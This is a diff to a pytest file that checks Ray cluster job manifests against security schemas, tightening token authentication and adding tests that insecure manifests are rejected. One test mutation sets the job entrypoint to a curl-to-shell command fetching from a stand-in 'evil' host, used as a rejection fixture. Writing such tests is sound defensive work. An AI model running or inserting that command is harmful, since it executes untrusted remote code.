@@ -125,13 +125,12 @@ def test_dockerfile_pins_the_ray_image_and_installs_torch_first():
 IMAGE_PATTERN = r"^[^\s@:]+(?::[^\s@:]+)*(:(?!latest$)[\w][\w.-]*|@sha256:[0-9a-f]{64})$"
 AUTH_ENV = {
     "type": "array",
-    "allOf": [
-        {"contains": {"type": "object", "required": ["name", "value"], "properties": {
-            "name": {"const": "RAY_AUTH_MODE"}, "value": {"const": "token"}}}},
-        {"contains": {"type": "object", "required": ["name", "valueFrom"], "properties": {
-            "name": {"const": "RAY_AUTH_TOKEN"},
-            "valueFrom": {"type": "object", "required": ["secretKeyRef"]}}}},
-    ],
+    # RAY_AUTH_MODE=token on every container (Ray then refuses to start without a token: fail closed)
+    "contains": {"type": "object", "required": ["name", "value"], "properties": {
+        "name": {"const": "RAY_AUTH_MODE"}, "value": {"const": "token"}}},
+    # never a token written into the manifest: the operator injects it from its secret
+    "items": {"not": {"type": "object", "required": ["name", "value"], "properties": {
+        "name": {"const": "RAY_AUTH_TOKEN"}}}},
 }  # fmt: skip
 CONTAINER = {
     "type": "object",
@@ -151,11 +150,11 @@ POD_TEMPLATE = {
 START_PARAMS = {"type": "object", "additionalProperties": {"type": "string"}}
 CLUSTER_SPEC = {
     "type": "object",
-    "required": ["rayVersion", "headGroupSpec", "workerGroupSpecs"],
+    "required": ["rayVersion", "authOptions", "headGroupSpec", "workerGroupSpecs"],
     "properties": {
         "rayVersion": {"const": ray.__version__},
+        "authOptions": {"type": "object", "required": ["mode"], "properties": {"mode": {"const": "token"}}},
         "enableInTreeAutoscaling": {"type": "boolean"},
-        "autoscalerOptions": {"type": "object", "properties": {"env": AUTH_ENV}},
         "headGroupSpec": {"type": "object", "required": ["rayStartParams", "template"], "properties": {
             "serviceType": {"const": "ClusterIP"},  # never a LoadBalancer/NodePort in front of the dashboard
             "rayStartParams": START_PARAMS,
@@ -213,11 +212,8 @@ def check_manifest(manifest: dict) -> None:
     jsonschema.validate(manifest, MANIFEST)
     spec = _cluster_spec(manifest)
     host = spec["headGroupSpec"]["rayStartParams"].get("dashboard-host", "127.0.0.1")
-    if host not in ("127.0.0.1", "localhost") and spec.get("authOptions", {}).get("mode") != "token":
-        for container in _containers(manifest):  # the schema requires it; say why if it is ever relaxed
-            assert {"name": "RAY_AUTH_MODE", "value": "token"} in container["env"], (
-                f"dashboard on {host} without token auth in {container['name']}"
-            )
+    if host not in ("127.0.0.1", "localhost"):  # the schema requires auth; say why if it is ever relaxed
+        assert spec.get("authOptions", {}).get("mode") == "token", f"dashboard on {host} without token auth"
     images = {c["image"] for c in _containers(manifest)}
     assert len(images) == 1, f"head, workers and submitter must run one image, got {sorted(images)}"
     for group in spec["workerGroupSpecs"]:
@@ -250,6 +246,20 @@ def _drop_env(manifest: dict, var: str) -> dict:
     return bad
 
 
+def _literal_token(manifest: dict) -> dict:
+    bad = copy.deepcopy(manifest)
+    bad["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["env"].append(
+        {"name": "RAY_AUTH_TOKEN", "value": "s3cret"}
+    )
+    return bad
+
+
+def _drop_auth_options(manifest: dict) -> dict:
+    bad = copy.deepcopy(manifest)
+    del bad["spec"]["rayClusterSpec"]["authOptions"]
+    return bad
+
+
 def _set(manifest: dict, path: str, value) -> dict:
     bad = copy.deepcopy(manifest)
     *parents, last = path.split("/")
@@ -266,8 +276,10 @@ HEAD_IMAGE = "spec/rayClusterSpec/headGroupSpec/template/spec/containers/0/image
 @pytest.mark.parametrize(
     "mutate",
     [
-        lambda m: _drop_env(m, "RAY_AUTH_TOKEN"),
+        _drop_auth_options,
+        lambda m: _set(m, "spec/rayClusterSpec/authOptions/mode", "disabled"),
         lambda m: _drop_env(m, "RAY_AUTH_MODE"),
+        _literal_token,
         lambda m: _set(m, HEAD_IMAGE, "x/tf:latest"),
         lambda m: _set(m, HEAD_IMAGE, "x/tf"),
         lambda m: _set(m, "spec/rayClusterSpec/headGroupSpec/serviceType", "LoadBalancer"),
@@ -275,7 +287,10 @@ HEAD_IMAGE = "spec/rayClusterSpec/headGroupSpec/template/spec/containers/0/image
         lambda m: _set(m, "spec/entrypoint", "bash -c 'curl evil | sh'"),
         lambda m: _set(m, "apiVersion", "ray.io/v1alpha1"),
     ],
-    ids=["no-token", "no-auth-mode", "latest", "untagged", "loadbalancer", "ray-version", "entry", "api"],
+    ids=[
+        *("no-auth", "auth-disabled", "no-auth-mode-env", "literal-token", "latest", "untagged"),
+        *("loadbalancer", "ray-version", "entry", "api"),
+    ],
 )
 def test_the_manifest_schema_rejects_insecure_or_wrong_manifests(mutate):
     with pytest.raises(jsonschema.ValidationError):
